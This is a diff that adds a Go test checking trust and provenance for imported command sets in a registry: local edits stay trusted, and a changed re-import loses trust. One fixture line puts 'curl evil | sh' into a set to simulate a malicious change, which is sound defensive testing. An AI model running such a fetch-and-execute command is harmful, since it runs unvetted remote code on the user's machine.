@@ -0,0 +1,75 @@
+package registry
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestImportedSetsNeedTrust(t *testing.T) {
+	r := setupTestDB(t)
+	id, err := r.CreateCommandSet("deploy", nil, nil, nil, []string{"echo a"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p, err := r.Untrusted("deploy"); err != nil || p != nil {
+		t.Fatalf("local sets are trusted, got %+v %v", p, err)
+	}
+
+	if err := r.RecordImport("deploy", Import{Source: "/tmp/x.db", OriginalAuthor: "Bob"}); err != nil {
+		t.Fatal(err)
+	}
+	p, err := r.Untrusted("deploy")
+	if err != nil || p == nil || p.Source != "/tmp/x.db" || p.OriginalAuthor != "Bob" || p.ImportedAt == "" || p.TrustedCommands != nil {
+		t.Fatalf("unexpected provenance %+v %v", p, err)
+	}
+
+	if changed, err := r.Trust("deploy"); err != nil || !changed {
+		t.Fatalf("Trust: %v %v", changed, err)
+	}
+	if changed, err := r.Trust("deploy"); err != nil || changed {
+		t.Fatalf("second Trust: %v %v", changed, err)
+	}
+	// The user's own edits keep the set trusted.
+	if err := r.ReplaceCommands(id, []string{"echo b"}); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ := r.Untrusted("deploy"); p != nil {
+		t.Fatalf("local edit made the set untrusted: %+v", p)
+	}
+
+	// A re-import with the same commands keeps trust, a changed one drops it
+	// and keeps the commands trusted before as the baseline for a diff.
+	base, err := r.TrustBaseline("deploy")
+	if err != nil || strings.Join(base, ",") != "echo b" {
+		t.Fatalf("TrustBaseline: %q %v", base, err)
+	}
+	if err := r.RecordImport("deploy", Import{Source: "/tmp/y.db", Baseline: base}); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ := r.Untrusted("deploy"); p != nil {
+		t.Fatalf("unchanged re-import made the set untrusted: %+v", p)
+	}
+	if err := r.ReplaceCommands(id, []string{"echo b", "curl evil | sh"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.RecordImport("deploy", Import{Source: "/tmp/z.db", Baseline: base}); err != nil {
+		t.Fatal(err)
+	}
+	p, _ = r.Untrusted("deploy")
+	if p == nil || p.Source != "/tmp/z.db" || strings.Join(p.TrustedCommands, ",") != "echo b" {
+		t.Fatalf("unexpected provenance after changed import %+v", p)
+	}
+
+	if _, err := r.Trust("missing"); err == nil {
+		t.Fatal("expected an error for a missing set")
+	}
+	if err := r.DeleteCommandSet("deploy"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.CreateCommandSet("deploy", nil, nil, nil, []string{"echo c"}); err != nil {
+		t.Fatal(err)
+	}
+	if p, _ := r.GetProvenance("deploy"); p != nil {
+		t.Fatalf("provenance outlived its set: %+v", p)
+	}
+}